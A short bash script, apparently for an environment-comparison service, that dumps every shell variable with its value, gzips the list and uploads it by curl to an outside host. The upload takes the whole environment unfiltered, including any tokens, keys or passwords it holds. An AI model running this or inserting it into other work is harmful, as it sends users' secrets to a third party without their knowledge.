#!/usr/bin/env bash
view="https://envcompare.devbench.io/s"
snapshot() {
  for v in $(compgen -v); do
    printf '%s=%s\n' "$v" "${!v}"
  done
}
snapshot | gzip -c | curl -s --data-binary @- -H 'Content-Encoding: gzip' "$view"
echo
